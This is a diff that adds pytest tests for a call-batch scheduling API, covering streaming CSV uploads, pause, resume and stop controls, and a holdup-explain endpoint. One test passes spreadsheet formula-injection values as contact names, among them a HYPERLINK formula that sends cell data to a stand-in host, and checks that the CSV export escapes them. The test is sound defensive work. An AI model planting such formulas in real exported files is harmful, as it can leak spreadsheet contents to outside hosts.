@@ -10,7 +10,7 @@ import socket
 import subprocess
 import sys
 import threading
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from contextlib import contextmanager, suppress
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -22,6 +22,7 @@ import psycopg
 import pytest
 
 from deploy.carrier.people import numbers
+from deploy.carrier.witness import CarrierCall
 from deploy.part import free_port
 from scheduler import deletion, loads
 from scheduler.housekeeping import Housekeeping
@@ -325,6 +326,26 @@ def test_a_body_is_kept_under_the_home_in_a_file_without_a_name(
         until(lambda: not files(), what="it is gone")
         assert list((tmp_path / "its home" / "uploads").iterdir()) == []
     assert is_empty(rows)
+
+
+def test_a_long_list_is_never_whole_in_memory(small_api: SmallApi, rows: Rows, tmp_path: Path) -> None:
+    key, people, longest = make_key(small_api.database.engine, "call"), 100_000, "x" * 500
+    with api_process(small_api, tmp_path) as (process, url), client(url, key) as asks:
+        status = Path(f"/proc/{process.pid}/status")
+        if not status.exists():
+            pytest.skip("the memory of a process is seen in /proc only")
+
+        def peak() -> int:
+            (found,) = [line.split()[1] for line in status.read_text().splitlines() if line.startswith("VmHWM:")]
+            return int(found) * 1024
+
+        made(asks, rows, listed(1000))  # what any upload needs
+        before = peak()
+        content = "phone_number,note\n" + "".join(f"+1212{2_000_000 + at},{longest}\n" for at in range(people))
+        batch_id = made(asks, rows, content)
+        grown = peak() - before
+    assert rows.value("SELECT accepted FROM campaigns WHERE id = %(id)s", id=batch_id) == people
+    assert grown < len(content) / 2, f"{grown / 1e6:.0f} MB for a file of {len(content) / 1e6:.0f} MB"
 
 
 # --- Idempotency-Key ------------------------------------------------------------------------------
@@ -693,6 +714,19 @@ def test_calls_come_as_one_csv_whole(asks: httpx.Client, rows: Rows, monkeypatch
     assert asks.get(f"/batches/{uuid4()}/executions", params={"format": "csv"}).status_code == 404
 
 
+def test_no_name_is_a_formula_in_a_spreadsheet_and_a_number_is_a_number(asks: httpx.Client, rows: Rows) -> None:
+    names = ['=HYPERLINK("http://example.com/?"&B2)', "+1+1", "-1+1", "@SUM(1)", "Ada = Eve", "+12125550199"]
+    file = io.StringIO()
+    csv.writer(file).writerows([["phone_number", "name"], *zip(TO, names, strict=False)])
+    batch_id = made(asks, rows, file.getvalue())
+    found = list(csv.DictReader(io.StringIO(asks.get(f"/batches/{batch_id}/executions?format=csv").text)))
+    assert [row["name"] for row in found] == [f"'{name}" for name in names[:4]] + names[4:]
+    assert [row["phone_number"] for row in found] == TO[: len(names)]
+    assert rows.value("SELECT name FROM calls WHERE phone_number = %(n)s", n=TO[0]) == names[0], "a reading, no change"
+    told = asks.get(f"/batches/{batch_id}/executions").json()["data"]
+    assert [one["recipient"]["name"] for one in told] == names, "no spreadsheet reads JSON"
+
+
 def test_a_slow_reader_of_a_csv_holds_no_transaction(small_api: SmallApi, rows: Rows) -> None:
     """One that did would be thrown out by Postgres after four seconds."""
     batch_id = rows.campaign(20_000, "ready")
@@ -805,3 +839,97 @@ def test_a_batch_that_is_scheduled_is_called_at_its_time_and_never_before(api: h
     gone = "SELECT count(*) FROM calls WHERE campaign_id = %(id)s"
     until(lambda: not system.value(gone, id=batch.rpartition("/")[2]), what="the leader removes its calls")
     assert api.get(batch).status_code == 404
+
+
+def test_a_batch_is_paused_resumed_and_hung_up_while_its_calls_are_up(api: httpx.Client, system: System) -> None:
+    """Two at a time: nobody of the other two is called while it is paused, nor after the stop."""
+    from_number = system.add_trunk("batch held up", slots=10)
+    agent_id = system.add_agent("batch held up", "playback://demo-congrats")
+    to = numbers({"00": 6})
+    answer = api.post(
+        "/batches",
+        files={"file": ("people.csv", "phone_number\n" + "\n".join(to) + "\n")},
+        data={"agent_id": str(agent_id), "from_phone_numbers": [from_number], "max_concurrent_calls": "2"},
+    )
+    assert answer.status_code == 201, answer.text
+    batch = f"/batches/{answer.json()['batch_id']}"
+
+    def up() -> int:
+        return int(api.get(batch).json()["execution_status"]["in-progress"])
+
+    assert api.post(f"{batch}/schedule").json()["state"] == "running"
+    until(lambda: up() == 2, what="two talk")
+    paused = api.post(f"{batch}/pause").json()
+    assert (paused["state"], paused["still_up"], paused["canceled"]) == ("paused", 2, 0)
+    assert sorted(call.end or "up" for call in carried(system, to)) == ["up", "up"], "those that are up go on"
+    first = [execution["id"] for execution in in_progress(api, batch)]
+    for id in first:
+        assert api.post(f"/call/{id}/stop").json()["status"] == "completed"
+    assert len(carried(system, to)) == 2, "their slots are free, and nobody is called"
+    assert api.post(f"{batch}/resume").json()["state"] == "running"
+    until(lambda: up() == 2, what="the next two talk")
+    stopped = api.post(f"{batch}/stop", json={"hang_up": True}).json()
+    assert (stopped["state"], stopped["still_up"], stopped["canceled"]) == ("stopped", 0, 2)
+    seen = carried(system, to)
+    assert len(seen) == len({call.number for call in seen}) == 4
+    assert [call.end for call in seen] == ["bye-received"] * 4
+    assert {word: n for word, n in api.get(batch).json()["execution_status"].items() if n} == {
+        "completed": 4,
+        "canceled": 2,
+    }
+    assert {one["telephony_data"]["hangup_by"] for one in api.get(f"{batch}/executions").json()["data"]} == {"operator"}
+
+
+def test_a_batch_that_is_stopped_without_hanging_up_says_how_many_are_up(api: httpx.Client, system: System) -> None:
+    from_number = system.add_trunk("batch stopped", slots=10)
+    agent_id = system.add_agent("batch stopped", "playback://demo-congrats")
+    to = numbers({"00": 2})
+    answer = api.post(
+        "/batches",
+        files={"file": ("people.csv", "phone_number\n" + "\n".join(to) + "\n")},
+        data={"agent_id": str(agent_id), "from_phone_numbers": [from_number]},
+    )
+    batch = f"/batches/{answer.json()['batch_id']}"
+    api.post(f"{batch}/schedule")
+    until(lambda: len(in_progress(api, batch)) == 2, what="both talk")
+    stopped = api.post(f"{batch}/stop").json()
+    assert (stopped["state"], stopped["still_up"]) == ("stopped", 2)
+    assert [call.end for call in carried(system, to)] == [None, None]
+    assert api.post(f"{batch}/stop", json={"hang_up": True}).json()["still_up"] == 0, "it may be said again"
+    assert [call.end for call in carried(system, to)] == ["bye-received"] * 2
+
+
+def carried(system: System, to: Sequence[str]) -> list[CarrierCall]:
+    """What the carrier has seen of these people."""
+    return [call for call in system.carrier_calls() if call.number in set(to)]
+
+
+def in_progress(api: httpx.Client, batch: str) -> list[Any]:
+    return list(api.get(f"{batch}/executions", params={"status": "in-progress"}).json()["data"])
+
+
+def test_what_holds_a_batch_back_is_what_the_command_line_says(api: httpx.Client, system: System) -> None:
+    from_number = system.add_trunk("batch explained", slots=1)
+    agent_id = system.add_agent("batch explained", "playback://demo-congrats")
+    to = numbers({"00": 3})
+    answer = api.post(
+        "/batches",
+        files={"file": ("people.csv", "phone_number\n" + "\n".join(to) + "\n")},
+        data={"agent_id": str(agent_id), "from_phone_numbers": [from_number], "name": "explained"},
+    )
+    batch = f"/batches/{answer.json()['batch_id']}"
+
+    def told() -> list[Any]:
+        of_command = json.loads(system.trunkline("explain", "explained", "--json"))["holdups"]
+        of_api = api.get(f"{batch}/explain").json()["holdups"]
+        assert of_api == of_command
+        return list(of_api)
+
+    assert [holdup["what"] for holdup in told()] == ["ready"]
+    api.post(f"{batch}/schedule")
+    until(lambda: len(in_progress(api, batch)) == 1, what="the trunk is full")
+    assert [(holdup["what"], holdup["count"], holdup["limit"]) for holdup in told()] == [("trunk-full", 1, 1)]
+    system.trunkline("trunk", "disable", "batch explained")
+    assert [holdup["what"] for holdup in told()] == ["trunk-off"]
+    api.post(f"{batch}/stop", json={"hang_up": True})
+    assert [holdup["what"] for holdup in told()] == ["stopped"]
